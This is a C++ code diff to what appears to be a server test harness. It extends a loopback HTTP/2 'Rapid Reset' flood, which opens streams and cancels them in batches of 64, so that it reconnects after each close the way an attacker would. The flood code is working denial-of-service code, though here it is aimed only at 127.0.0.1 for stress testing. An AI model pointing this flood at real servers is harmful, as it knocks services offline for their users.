@@ -60,8 +60,42 @@ constexpr uint8_t kEndStream = 1, kEndHeaders = 4, kAck = 1;
 
 struct FloodResult {
   uint64_t streams = 0;      // opened and reset
-  int connections_made = 0;  // of those asked for
+  int connections_made = 0;  // flooders that got a connection at all
+  uint64_t connections = 0;  // connections opened, reconnects included
 };
+
+// Floods one connection until the server closes it or a bound is reached.
+inline void FloodOneConnection(int fd, const std::string& headers, const std::string& rst,
+                               std::chrono::steady_clock::time_point until, uint64_t max_streams,
+                               std::atomic<uint64_t>* streams) {
+  std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+  http2::AppendFrame(&hello, http2::kSettings, 0, 0, "");
+  http2::AppendFrame(&hello, http2::kSettings, http2::kAck, 0, "");
+  (void)send(fd, hello.data(), hello.size(), MSG_NOSIGNAL);
+  uint32_t id = 1;
+  char sink[65536];
+  while (std::chrono::steady_clock::now() < until && streams->load() < max_streams) {
+    std::string batch;
+    for (int i = 0; i < 64; ++i, id += 2) {
+      http2::AppendFrame(&batch, http2::kHeaders, http2::kEndHeaders, id, headers);
+      http2::AppendFrame(&batch, http2::kRstStream, 0, id, rst);
+    }
+    size_t off = 0;
+    while (off < batch.size() && std::chrono::steady_clock::now() < until) {
+      pollfd p{fd, POLLOUT | POLLIN, 0};
+      if (poll(&p, 1, 100) <= 0) continue;
+      if ((p.revents & POLLIN) != 0 && recv(fd, sink, sizeof(sink), MSG_DONTWAIT) == 0) return;
+      if ((p.revents & (POLLERR | POLLHUP)) != 0) return;
+      if ((p.revents & POLLOUT) == 0) continue;
+      const ssize_t n =
+          send(fd, batch.data() + off, batch.size() - off, MSG_NOSIGNAL | MSG_DONTWAIT);
+      if (n <= 0) return;
+      off += static_cast<size_t>(n);
+    }
+    if (off < batch.size()) return;
+    *streams += 64;
+  }
+}
 
 // Opens `connections` connections to 127.0.0.1:`port` and on each opens and
 // resets streams (HEADERS + RST_STREAM(CANCEL), 64 per write) until
@@ -75,45 +109,30 @@ inline FloodResult RapidResetFlood(int port, int connections, uint64_t max_strea
   rst.append("\0\0\0\x08", 4);  // CANCEL
   std::atomic<uint64_t> streams{0};
   std::atomic<int> made{0};
+  std::atomic<uint64_t> reconnects{0};
   const auto until = std::chrono::steady_clock::now() + duration;
   std::vector<std::thread> threads;
   for (int c = 0; c < connections; ++c) {
     threads.emplace_back([&] {
-      const int fd = ConnectLoopback(port, /*recv_timeout_s=*/1);
-      if (fd < 0) return;
-      ++made;
-      std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-      http2::AppendFrame(&hello, http2::kSettings, 0, 0, "");
-      http2::AppendFrame(&hello, http2::kSettings, http2::kAck, 0, "");
-      (void)send(fd, hello.data(), hello.size(), MSG_NOSIGNAL);
-      uint32_t id = 1;
-      char sink[65536];
+      // A closed connection is opened again: the flood goes on until its
+      // bounds, as an attacker's would.
+      bool first = true;
       while (std::chrono::steady_clock::now() < until && streams.load() < max_streams) {
-        std::string batch;
-        for (int i = 0; i < 64; ++i, id += 2) {
-          http2::AppendFrame(&batch, http2::kHeaders, http2::kEndHeaders, id, headers);
-          http2::AppendFrame(&batch, http2::kRstStream, 0, id, rst);
+        const int fd = ConnectLoopback(port, /*recv_timeout_s=*/1);
+        if (fd < 0) {
+          std::this_thread::sleep_for(std::chrono::milliseconds(10));
+          continue;
         }
-        size_t off = 0;
-        while (off < batch.size() && std::chrono::steady_clock::now() < until) {
-          pollfd p{fd, POLLOUT | POLLIN, 0};
-          if (poll(&p, 1, 100) <= 0) continue;
-          if ((p.revents & POLLIN) != 0) (void)recv(fd, sink, sizeof(sink), MSG_DONTWAIT);
-          if ((p.revents & (POLLERR | POLLHUP)) != 0) break;
-          if ((p.revents & POLLOUT) == 0) continue;
-          const ssize_t n =
-              send(fd, batch.data() + off, batch.size() - off, MSG_NOSIGNAL | MSG_DONTWAIT);
-          if (n <= 0) break;
-          off += static_cast<size_t>(n);
-        }
-        if (off < batch.size()) break;  // the server closed the connection
-        streams += 64;
+        if (first) ++made;
+        first = false;
+        ++reconnects;
+        FloodOneConnection(fd, headers, rst, until, max_streams, &streams);
+        close(fd);
       }
-      close(fd);
     });
   }
   for (std::thread& t : threads) t.join();
-  return {streams.load(), made.load()};
+  return {streams.load(), made.load(), reconnects.load()};
 }
 
 // Threads of process `pid` (Threads: in /proc/pid/status), 0 if unknown.
